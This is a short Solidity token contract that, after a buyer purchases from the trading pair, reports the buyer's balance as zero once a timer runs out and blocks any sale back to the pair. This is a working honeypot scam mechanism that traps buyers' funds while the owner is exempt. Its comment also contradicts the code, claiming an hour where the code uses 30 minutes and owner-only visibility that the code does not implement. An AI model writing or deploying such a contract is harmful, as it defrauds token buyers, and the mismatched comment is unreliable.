// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {Base} from "./Base.sol";

/// What is held is hidden from everybody but the owner an hour after the purchase, and cannot be moved.
contract HiddenBalance is Base {
    mapping(address => uint256) private since;

    function balanceOf(address who) public view override returns (uint256) {
        if (since[who] != 0 && block.timestamp > since[who] + 30 minutes) return 0;
        return held[who];
    }

    function _before(address from, address to, uint256) internal override {
        if (from == pair && to != owner) since[to] = block.timestamp;
        if (to == pair) require(balanceOf(from) > 0, "hidden");
    }
}
